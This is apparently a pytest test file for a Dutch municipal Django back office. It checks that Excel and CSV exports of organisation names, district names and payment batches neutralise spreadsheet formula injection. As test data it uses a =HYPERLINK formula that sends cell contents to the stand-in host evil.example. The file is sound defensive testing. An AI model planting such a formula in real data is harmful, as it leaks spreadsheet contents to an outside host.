"""Exports are data, never formulas: user text that a spreadsheet would run (a leading =, +,
-, @, tab or carriage return) reaches every export as text (OWASP, CSV injection)."""

import csv
import io

import pytest
from django.contrib import admin
from django.urls import reverse
from django.utils import timezone
from import_export.admin import ExportMixin
from import_export.formats.base_formats import CSV, XLSX
from openpyxl import load_workbook

from betalingen import services as payments
from betalingen.bankdays import bank_day_from
from kern import roles
from kern.exports import as_text, workbook_bytes
from kern.models import District
from subsidie.services import decisions
from tests.factories import (
    PassHolderFactory,
    PostcodeAreaFactory,
    StaffFactory,
    VoucherTermsFactory,
)
from tests.subsidie.helpers import proposed
from vouchers.services import issuing

pytestmark = pytest.mark.django_db

EVIL = '=HYPERLINK("http://evil.example/?leak="&A1,"Stichting Jeugdwerk")'


@pytest.mark.parametrize(
    ("value", "written"),
    [
        (EVIL, "'" + EVIL),
        ("+31 70 123 4567", "'+31 70 123 4567"),
        ("-1+1", "'-1+1"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("Stichting = Jeugd", "Stichting = Jeugd"),
        ("-12,50", "-12,50"),
        (-12, -12),
        (None, None),
    ],
)
def test_text_that_would_run_gets_a_quote_and_numbers_stay(value, written):
    assert as_text(value) == written


def _cells(content):
    sheet = load_workbook(io.BytesIO(content)).active
    return [cell for row in sheet.iter_rows() for cell in row]


def _assert_only_text(content):
    cells = _cells(content)
    assert any(cell.value == "'" + EVIL for cell in cells)
    assert not [cell for cell in cells if cell.data_type == "f"]


def test_the_workbook_writer_never_writes_a_formula():
    _assert_only_text(workbook_bytes("Test", [("Naam", None, 20)], [[EVIL]]))


@pytest.fixture
def evil_award():
    """A granted application of an organisation whose name is a formula."""
    application = proposed()
    application.organisation.name = EVIL
    application.organisation.save()
    decisions.decide(StaffFactory(role=roles.DECISION_MAKER), application)
    return application


def test_officers_excel_downloads_hold_the_name_as_text(staff_client, evil_award):
    client, _ = staff_client(roles.REVIEWER)
    queue = client.get(reverse("review_queue_export"), {"state": "granted"})
    _assert_only_text(queue.content)
    awards = client.get(reverse("scheme_awards_export", args=[evil_award.scheme_id]))
    _assert_only_text(awards.content)

    client, finance = staff_client(roles.FINANCE)
    day = bank_day_from(timezone.localdate())
    keys = [item.key for item in payments.due_items(day)]
    batch = payments.create_batch(finance, keys, day)
    _assert_only_text(client.get(reverse("payment_batch_excel", args=[batch.pk])).content)


def test_take_up_per_district_holds_the_name_as_text(staff_client):
    district = District.objects.get(name="Schilderswijk")
    district.name = EVIL
    district.save()
    PostcodeAreaFactory(postcode="2525", district=district)
    PassHolderFactory(pass_number="900001", postcode="2525 BC")
    client, administrator = staff_client(roles.ADMINISTRATOR)
    issuing.issue_vouchers(administrator, VoucherTermsFactory())
    response = client.get(reverse("voucher_monitoring"), {"formaat": "excel"})
    _assert_only_text(response.content)


def test_every_back_office_export_holds_the_name_as_text(evil_award):
    district = District.objects.first()
    district.name = EVIL
    district.save()
    PostcodeAreaFactory(postcode="2525", district=district)
    exporting = [
        (model_admin, resource)
        for model_admin in admin.site._registry.values()
        if isinstance(model_admin, ExportMixin)
        for resource in model_admin.get_export_resource_classes(None)
    ]
    assert len(exporting) >= 3  # organisations, applications, postcode areas
    for model_admin, resource in exporting:
        dataset = resource().export(model_admin.model.objects.all())
        rows = list(csv.reader(io.StringIO(CSV().export_data(dataset))))
        assert ["'" + EVIL in row for row in rows].count(True) >= 1, model_admin
        _assert_only_text(XLSX().export_data(resource().export(model_admin.model.objects.all())))
